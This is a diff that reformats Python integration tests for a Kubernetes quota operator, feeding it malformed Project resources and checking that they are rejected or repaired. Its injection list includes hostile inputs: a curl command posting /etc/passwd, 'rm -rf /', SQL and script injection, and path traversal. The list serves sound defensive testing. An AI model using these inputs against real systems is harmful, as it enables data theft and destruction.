@@ -30,9 +30,17 @@ GROUP, VERSION, PLURAL = "headroom.dev", "v1alpha1", "projects"
 
 Body = dict[str, Any]
 
-INJECTIONS = ["'; DROP TABLE projects; --", "<script>alert(1)</script>", "{{ .Values.secret }}",
-              "$(curl -d @/etc/passwd x)", "#chan\r\nX-Injected: yes", "🔥 on-call ☎ équipe", "%s%s%s%n",
-              "\u202eevil", "a" * 256]
+INJECTIONS = [
+    "'; DROP TABLE projects; --",
+    "<script>alert(1)</script>",
+    "{{ .Values.secret }}",
+    "$(curl -d @/etc/passwd x)",
+    "#chan\r\nX-Injected: yes",
+    "🔥 on-call ☎ équipe",
+    "%s%s%s%n",
+    "\u202eevil",
+    "a" * 256,
+]
 
 
 @dataclass(frozen=True)
@@ -61,6 +69,7 @@ def _set(path: str, value: Any) -> Callable[[Body], None]:
             node[int(leaf)] = value
         else:
             node[leaf] = value
+
     return spoil
 
 
@@ -71,6 +80,7 @@ def _delete(path: str) -> Callable[[Body], None]:
         for key in parents:
             node = node[key]
         del node[leaf]
+
     return spoil
 
 
@@ -78,6 +88,7 @@ def _many(*spoils: Callable[[Body], None]) -> Callable[[Body], None]:
     def spoil(body: Body) -> None:
         for each in spoils:
             each(body)
+
     return spoil
 
 
@@ -89,8 +100,12 @@ CASES = [
     Case("headroom-a-fraction", _set("spec.quota.headroomPercent", 20.5), "rejected", "spec.quota.headroomPercent"),
     Case("urgent-yes", _set("spec.alerts.urgentWhenFull", "yes"), "rejected", "spec.alerts.urgentWhenFull"),
     Case("thresholds-an-object", _set("spec.alerts.thresholds", {"warn": 80}), "rejected", "spec.alerts.thresholds"),
-    Case("requested-a-list", _set("spec.namespaces.0.requested", ["requests.cpu", "4"]), "rejected",
-         "spec.namespaces[0].requested"),
+    Case(
+        "requested-a-list",
+        _set("spec.namespaces.0.requested", ["requests.cpu", "4"]),
+        "rejected",
+        "spec.namespaces[0].requested",
+    ),
     # --- out of range, malformed values
     Case("headroom-negative", _set("spec.quota.headroomPercent", -1), "rejected", "spec.quota.headroomPercent"),
     Case("headroom-huge", _set("spec.quota.headroomPercent", 10**12), "rejected", "spec.quota.headroomPercent"),
@@ -102,61 +117,117 @@ CASES = [
     Case("threshold-zero", _set("spec.alerts.thresholds", [0]), "rejected", "spec.alerts.thresholds"),
     Case("hysteresis-51", _set("spec.alerts.hysteresis", 51), "rejected", "spec.alerts.hysteresis"),
     Case("cooldown-soon", _set("spec.alerts.cooldown", "soon"), "rejected", "spec.alerts.cooldown"),
-    Case("defaults-request-above-limit", _set("spec.defaults", {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}),
-         "rejected", "at most the default limit"),
-    Case("business-hours-prose", _set("spec.owner.businessHours", "whenever we feel like it"), "rejected",
-         "spec.owner.businessHours"),
+    Case(
+        "defaults-request-above-limit",
+        _set("spec.defaults", {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}),
+        "rejected",
+        "at most the default limit",
+    ),
+    Case(
+        "business-hours-prose",
+        _set("spec.owner.businessHours", "whenever we feel like it"),
+        "rejected",
+        "spec.owner.businessHours",
+    ),
     Case("holiday-30-february", _set("spec.owner.holidays", ["2026-02-30"]), "rejected", "spec.owner.holidays"),
     Case("enforcement-maybe", _set("spec.quota.enforcement", "Maybe"), "rejected", "spec.quota.enforcement"),
     Case("reason-501-chars", _set("spec.reason", "r" * 501), "rejected", "spec.reason"),
     # --- unknown resource names, bad names
     Case("minimum-gpu", _set("spec.quota.minimum", {"nvidia.com/gpu": "1"}), "rejected", "spec.quota.minimum keys"),
-    Case("resources-gpu", _set("spec.quota.resources", ["requests.nvidia.com/gpu"]), "rejected",
-         "spec.quota.resources"),
+    Case(
+        "resources-gpu", _set("spec.quota.resources", ["requests.nvidia.com/gpu"]), "rejected", "spec.quota.resources"
+    ),
     Case("resources-empty", _set("spec.quota.resources", []), "rejected", "spec.quota.resources"),
     Case("team-unicode", _set("spec.owner.team", "équipe-paiements"), "rejected", "spec.owner.team"),
     Case("namespace-injection", _set("spec.namespaces.0.name", "a;rm -rf /"), "rejected", "spec.namespaces"),
     Case("namespace-uppercase", _set("spec.namespaces.0.name", "Payments"), "rejected", "spec.namespaces"),
     Case("namespace-64-chars", _set("spec.namespaces.0.name", "n" * 64), "rejected", "spec.namespaces"),
-    Case("namespace-twice", _set("spec.namespaces", [{"name": "twice"}, {"name": "twice"}]), "rejected",
-         "Duplicate value"),
-    Case("a-thousand-namespaces", _set("spec.namespaces", [{"name": f"ns-{i}"} for i in range(1000)]), "rejected",
-         "spec.namespaces"),
+    Case(
+        "namespace-twice",
+        _set("spec.namespaces", [{"name": "twice"}, {"name": "twice"}]),
+        "rejected",
+        "Duplicate value",
+    ),
+    Case(
+        "a-thousand-namespaces",
+        _set("spec.namespaces", [{"name": f"ns-{i}"} for i in range(1000)]),
+        "rejected",
+        "spec.namespaces",
+    ),
     Case("no-namespaces", _set("spec.namespaces", []), "rejected", "spec.namespaces"),
     Case("no-owner", _delete("spec.owner"), "rejected", "spec.owner"),
-    Case("secret-path-traversal", _set("spec.alerts.webhookSecretRef", {"name": "../../etc/passwd"}), "rejected",
-         "spec.alerts.webhookSecretRef.name"),
-    Case("contacts-21", _set("spec.owner.contacts", [f"#c{i}" for i in range(21)]), "rejected",
-         "spec.owner.contacts"),
+    Case(
+        "secret-path-traversal",
+        _set("spec.alerts.webhookSecretRef", {"name": "../../etc/passwd"}),
+        "rejected",
+        "spec.alerts.webhookSecretRef.name",
+    ),
+    Case("contacts-21", _set("spec.owner.contacts", [f"#c{i}" for i in range(21)]), "rejected", "spec.owner.contacts"),
     Case("contact-257-chars", _set("spec.owner.contacts", ["x" * 257]), "rejected", "spec.owner.contacts"),
     Case("contact-empty", _set("spec.owner.contacts", [""]), "rejected", "spec.owner.contacts"),
-    Case("unknown-keys-strict", _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
-         "rejected", "unknown field", strict=True),
+    Case(
+        "unknown-keys-strict",
+        _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
+        "rejected",
+        "unknown field",
+        strict=True,
+    ),
     # --- valid for the schema, not for the operator: Ready=False, InvalidSpec, the field named
-    Case("minimum-1e40", _set("spec.quota.minimum", {"requests.cpu": "1e40"}), "invalid",
-         "spec.quota.minimum.requests.cpu"),
-    Case("requested-1e40", _set("spec.namespaces.0.requested", {"requests.cpu": "1e40"}), "invalid",
-         "spec.namespaces[0].requested.requests.cpu"),
-    Case("default-limit-1e40", _set("spec.defaults", {"limits": {"memory": "1e40"}}), "invalid",
-         "spec.defaults.limits.memory"),
+    Case(
+        "minimum-1e40",
+        _set("spec.quota.minimum", {"requests.cpu": "1e40"}),
+        "invalid",
+        "spec.quota.minimum.requests.cpu",
+    ),
+    Case(
+        "requested-1e40",
+        _set("spec.namespaces.0.requested", {"requests.cpu": "1e40"}),
+        "invalid",
+        "spec.namespaces[0].requested.requests.cpu",
+    ),
+    Case(
+        "default-limit-1e40",
+        _set("spec.defaults", {"limits": {"memory": "1e40"}}),
+        "invalid",
+        "spec.defaults.limits.memory",
+    ),
     Case("lookback-2-billion-years", _set("spec.quota.lookback", "99999999999w"), "invalid", "spec.quota.lookback"),
     Case("cooldown-zero", _set("spec.alerts.cooldown", "0s"), "invalid", "spec.alerts.cooldown"),
     # --- odd but valid: governed (or waiting for namespaces) like any other Project
-    Case("unknown-keys-pruned", _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
-         "accepted"),
+    Case(
+        "unknown-keys-pruned",
+        _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
+        "accepted",
+    ),
     Case("contacts-injection-and-unicode", _set("spec.owner.contacts", INJECTIONS), "accepted"),
-    Case("annotations-garbage", _set("metadata.annotations", {"headroom.dev/approved-change": "sha256:" + "z" * 5000,
-                                                              "headroom.dev/approved-by": "rëviewer 🚀 <admin>",
-                                                              "headroom.dev/requested-by": "rëviewer 🚀 <admin>"}),
-         "accepted"),
+    Case(
+        "annotations-garbage",
+        _set(
+            "metadata.annotations",
+            {
+                "headroom.dev/approved-change": "sha256:" + "z" * 5000,
+                "headroom.dev/approved-by": "rëviewer 🚀 <admin>",
+                "headroom.dev/requested-by": "rëviewer 🚀 <admin>",
+            },
+        ),
+        "accepted",
+    ),
     # --- claims a team must not make: held (Waiting), never governed
-    Case("claims-the-system-namespaces", _set("spec.namespaces", [{"name": n, "requested": {"pods": "1"}} for n in
-                                                                   ("kube-system", "kube-public", "default")]),
-         "accepted"),
+    Case(
+        "claims-the-system-namespaces",
+        _set(
+            "spec.namespaces",
+            [{"name": n, "requested": {"pods": "1"}} for n in ("kube-system", "kube-public", "default")],
+        ),
+        "accepted",
+    ),
     Case("reason-injection", _set("spec.reason", INJECTIONS[0] + INJECTIONS[4]), "accepted"),
     Case("pods-beyond-int64", _set("spec.quota.minimum", {"pods": "9223372036854775808"}), "accepted"),
-    Case("five-hundred-missing-namespaces", _set("spec.namespaces", [{"name": f"gone-{i}"} for i in range(500)]),
-         "accepted"),
+    Case(
+        "five-hundred-missing-namespaces",
+        _set("spec.namespaces", [{"name": f"gone-{i}"} for i in range(500)]),
+        "accepted",
+    ),
     Case("unknown-time-zone", _set("spec.owner.businessHours", "Mon-Fri 09:00-17:00 Mars/Olympus_Mons"), "accepted"),
 ]
 
@@ -186,20 +257,33 @@ def _gitops_writer(cluster: Cluster, admin: k8s.ApiClient) -> kubernetes.client.
     """Garbage sign-off annotations can only come from Git: the sign-off policy refuses them from anyone else."""
     rbac = k8s.RbacAuthorizationV1Api(admin)
     with contextlib.suppress(ApiException):
-        rbac.create_cluster_role(k8s.V1ClusterRole(
-            metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
-            rules=[k8s.V1PolicyRule(api_groups=[GROUP], resources=[PLURAL], verbs=["create", "get", "patch"])]))
-        rbac.create_cluster_role_binding(k8s.V1ClusterRoleBinding(
-            metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
-            role_ref=k8s.V1RoleRef(api_group="rbac.authorization.k8s.io", kind="ClusterRole",
-                                   name="test-gitops-projects"),
-            subjects=[k8s.RbacV1Subject(kind="User", name=GITOPS_USER, api_group="rbac.authorization.k8s.io")]))
+        rbac.create_cluster_role(
+            k8s.V1ClusterRole(
+                metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
+                rules=[k8s.V1PolicyRule(api_groups=[GROUP], resources=[PLURAL], verbs=["create", "get", "patch"])],
+            )
+        )
+        rbac.create_cluster_role_binding(
+            k8s.V1ClusterRoleBinding(
+                metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
+                role_ref=k8s.V1RoleRef(
+                    api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="test-gitops-projects"
+                ),
+                subjects=[k8s.RbacV1Subject(kind="User", name=GITOPS_USER, api_group="rbac.authorization.k8s.io")],
+            )
+        )
     return custom(cluster.impersonate(GITOPS_USER))
 
 
 def test_a_corpus_of_malformed_projects_is_refused_or_reported_and_the_operator_survives(
-        cluster: Cluster, admin: k8s.ApiClient, namespace: str, tmp_path: Path, created: list[str],
-        approval_policy: None, start_operator: Callable[..., OperatorProcess]) -> None:
+    cluster: Cluster,
+    admin: k8s.ApiClient,
+    namespace: str,
+    tmp_path: Path,
+    created: list[str],
+    approval_policy: None,
+    start_operator: Callable[..., OperatorProcess],
+) -> None:
     assert len(CASES) >= 30
     operator = start_operator(*_empty_history(tmp_path / "h.csv"))
     api = custom(admin)
@@ -215,8 +299,9 @@ def test_a_corpus_of_malformed_projects_is_refused_or_reported_and_the_operator_
         case.spoil(body)
         try:
             writer = gitops if case.id == "annotations-garbage" else api
-            writer.create_cluster_custom_object(GROUP, VERSION, PLURAL, body,
-                                                **({"field_validation": "Strict"} if case.strict else {}))
+            writer.create_cluster_custom_object(
+                GROUP, VERSION, PLURAL, body, **({"field_validation": "Strict"} if case.strict else {})
+            )
         except ApiException as exc:
             message = api_error_message(exc)
             print(f"{case.id}: HTTP {exc.status}: {message[:160]}")
@@ -265,56 +350,107 @@ def test_a_corpus_of_malformed_projects_is_refused_or_reported_and_the_operator_
     core.create_namespace(k8s.V1Namespace(metadata=k8s.V1ObjectMeta(name=good_ns)))
     try:
         good = f"good-{uuid.uuid4().hex[:6]}"
-        api.create_cluster_custom_object(GROUP, VERSION, PLURAL, project_manifest(
-            good, [good_ns], quota={"resources": ["pods"], "minimum": {"pods": "7"}}))
+        api.create_cluster_custom_object(
+            GROUP,
+            VERSION,
+            PLURAL,
+            project_manifest(good, [good_ns], quota={"resources": ["pods"], "minimum": {"pods": "7"}}),
+        )
         created.append(good)
-        wait_for(lambda: (core.read_namespaced_resource_quota("headroom", good_ns).metadata.annotations or {})
-                 .get("headroom.dev/state") == "governed", 60, "the good Project's quota")
+        wait_for(
+            lambda: (
+                (core.read_namespaced_resource_quota("headroom", good_ns).metadata.annotations or {}).get(
+                    "headroom.dev/state"
+                )
+                == "governed"
+            ),
+            60,
+            "the good Project's quota",
+        )
         assert core.read_namespaced_resource_quota("headroom", good_ns).spec.hard == {"pods": "7"}
-        wait_for(lambda: _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, good), "Ready")
-                 .get("status") == "True", 30, "the good Project Ready")
+        wait_for(
+            lambda: (
+                _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, good), "Ready").get("status") == "True"
+            ),
+            30,
+            "the good Project Ready",
+        )
     finally:
         core.delete_namespace(good_ns)
     assert operator.running()
 
 
 def test_garbage_in_status_and_in_its_own_annotations_is_repaired(
-        admin: k8s.ApiClient, namespace: str, tmp_path: Path, created: list[str],
-        start_operator: Callable[..., OperatorProcess]) -> None:
+    admin: k8s.ApiClient,
+    namespace: str,
+    tmp_path: Path,
+    created: list[str],
+    start_operator: Callable[..., OperatorProcess],
+) -> None:
     """Someone writes nonsense into a Project's status and into the annotations of Headroom's own
     quota: the operator keeps running, repairs what it owns, and keeps the governed values."""
     operator = start_operator(*_empty_history(tmp_path / "h.csv"))
     api, core = custom(admin), k8s.CoreV1Api(admin)
     name = f"garbage-{uuid.uuid4().hex[:6]}"
-    api.create_cluster_custom_object(GROUP, VERSION, PLURAL, project_manifest(
-        name, [namespace], quota={"resources": ["requests.cpu", "pods"],
-                                  "minimum": {"requests.cpu": "2", "pods": "10"}}))
+    api.create_cluster_custom_object(
+        GROUP,
+        VERSION,
+        PLURAL,
+        project_manifest(
+            name,
+            [namespace],
+            quota={"resources": ["requests.cpu", "pods"], "minimum": {"requests.cpu": "2", "pods": "10"}},
+        ),
+    )
     created.append(name)
 
     def quota() -> Any:
         return core.read_namespaced_resource_quota("headroom", namespace)
 
     wait_for(lambda: (quota().metadata.annotations or {}).get("headroom.dev/state") == "governed", 60, "governed")
-    wait_for(lambda: _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name), "Ready")
-             .get("status") == "True", 30, "Ready")
+    wait_for(
+        lambda: (
+            _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name), "Ready").get("status") == "True"
+        ),
+        30,
+        "Ready",
+    )
 
-    api.patch_cluster_custom_object_status(GROUP, VERSION, PLURAL, name, {"status": {
-        "phase": "Exploded",
-        "alerts": [{"threshold": "eighty", "state": 7}, {"namespace": namespace}],
-        "history": [{"id": 5, "diff": "not a list"}],
-        "lastAppliedChange": {"id": "sha256:never-applied", "appliedAt": "last tuesday"},
-        "pendingChange": {"id": "sha256:nothing", "since": "yesterday", "diff": [{"namespace": "x", "to": "∞"}]},
-        "summary": {"namespaces": 3, "highestUtilization": "∞"},
-        "somethingElse": {"deeply": [{"nested": "junk"}]},
-    }})
-    core.patch_namespaced_resource_quota("headroom", namespace, {"metadata": {"annotations": {
-        "headroom.dev/applied-change": "[]", "headroom.dev/governed-hard": "{not json"}}})
+    api.patch_cluster_custom_object_status(
+        GROUP,
+        VERSION,
+        PLURAL,
+        name,
+        {
+            "status": {
+                "phase": "Exploded",
+                "alerts": [{"threshold": "eighty", "state": 7}, {"namespace": namespace}],
+                "history": [{"id": 5, "diff": "not a list"}],
+                "lastAppliedChange": {"id": "sha256:never-applied", "appliedAt": "last tuesday"},
+                "pendingChange": {
+                    "id": "sha256:nothing",
+                    "since": "yesterday",
+                    "diff": [{"namespace": "x", "to": "∞"}],
+                },
+                "summary": {"namespaces": 3, "highestUtilization": "∞"},
+                "somethingElse": {"deeply": [{"nested": "junk"}]},
+            }
+        },
+    )
+    core.patch_namespaced_resource_quota(
+        "headroom",
+        namespace,
+        {"metadata": {"annotations": {"headroom.dev/applied-change": "[]", "headroom.dev/governed-hard": "{not json"}}},
+    )
 
     def repaired() -> bool:
         status = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name).get("status") or {}
         annotations = quota().metadata.annotations or {}
-        return (status.get("phase") == "Ready" and "pendingChange" not in status
-                and annotations.get("headroom.dev/governed-hard") == '{"pods":"10","requests.cpu":"2"}')
+        return (
+            status.get("phase") == "Ready"
+            and "pendingChange" not in status
+            and annotations.get("headroom.dev/governed-hard") == '{"pods":"10","requests.cpu":"2"}'
+        )
 
     wait_for(repaired, 60, "the status and the annotations to be repaired")
     assert quota().spec.hard == {"requests.cpu": "2", "pods": "10"}
@@ -324,28 +460,50 @@ def test_garbage_in_status_and_in_its_own_annotations_is_repaired(
     # Still governing: a decrease applies as usual.
     body = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name)
     body["spec"]["namespaces"][0]["requested"] = {"pods": "8"}
-    api.patch_cluster_custom_object(GROUP, VERSION, PLURAL, name, {
-        "metadata": {"annotations": {"headroom.dev/requested-by": user_name(admin)}},
-        "spec": {"namespaces": body["spec"]["namespaces"]}})
+    api.patch_cluster_custom_object(
+        GROUP,
+        VERSION,
+        PLURAL,
+        name,
+        {
+            "metadata": {"annotations": {"headroom.dev/requested-by": user_name(admin)}},
+            "spec": {"namespaces": body["spec"]["namespaces"]},
+        },
+    )
     wait_for(lambda: quota().spec.hard.get("pods") == "8", 30, "the decrease")
 
 
 def test_a_hand_edited_governed_annotation_does_not_lower_the_quota(
-        admin: k8s.ApiClient, namespace: str, tmp_path: Path, created: list[str],
-        start_operator: Callable[..., OperatorProcess]) -> None:
+    admin: k8s.ApiClient,
+    namespace: str,
+    tmp_path: Path,
+    created: list[str],
+    start_operator: Callable[..., OperatorProcess],
+) -> None:
     start_operator(*_empty_history(tmp_path / "h.csv"))
     api, core = custom(admin), k8s.CoreV1Api(admin)
     name = f"annotated-{uuid.uuid4().hex[:6]}"
-    api.create_cluster_custom_object(GROUP, VERSION, PLURAL, project_manifest(
-        name, [namespace], quota={"resources": ["requests.cpu", "pods"],
-                                  "minimum": {"requests.cpu": "2", "pods": "10"}}))
+    api.create_cluster_custom_object(
+        GROUP,
+        VERSION,
+        PLURAL,
+        project_manifest(
+            name,
+            [namespace],
+            quota={"resources": ["requests.cpu", "pods"], "minimum": {"requests.cpu": "2", "pods": "10"}},
+        ),
+    )
     created.append(name)
 
     def quota() -> Any:
         return core.read_namespaced_resource_quota("headroom", namespace)
 
     wait_for(lambda: (quota().metadata.annotations or {}).get("headroom.dev/state") == "governed", 60, "governed")
-    core.patch_namespaced_resource_quota("headroom", namespace, {"metadata": {"annotations": {
-        "headroom.dev/governed-hard": '{"pods":"1","requests.cpu":"100m"}'}}}, field_manager="kubectl-edit")
+    core.patch_namespaced_resource_quota(
+        "headroom",
+        namespace,
+        {"metadata": {"annotations": {"headroom.dev/governed-hard": '{"pods":"1","requests.cpu":"100m"}'}}},
+        field_manager="kubectl-edit",
+    )
     time.sleep(6)
     assert quota().spec.hard == {"requests.cpu": "2", "pods": "10"}
